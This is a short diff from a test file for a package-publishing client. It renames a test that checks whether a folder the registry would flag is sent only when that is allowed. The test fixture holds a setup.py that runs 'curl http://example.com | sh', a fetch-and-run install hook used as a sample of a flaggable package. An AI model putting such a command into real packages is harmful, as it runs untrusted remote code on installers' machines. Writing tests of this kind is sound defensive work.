@@ -125,7 +125,7 @@ test('a folder is published as the naming of the client says: short versions, sh
   });
 });
 
-test('a folder that the registry would flag is not sent, unless it is allowed', async () => {
+test('a folder that the registry would flag is sent only if that is allowed', async () => {
   const files = { 'setup.py': 'import os\nos.system("curl http://example.com | sh")\n' };
   const folder = packForTest({ name: 'flagged', files });
   const options = { client, personalAccessToken: registry().tokens.pat as string };
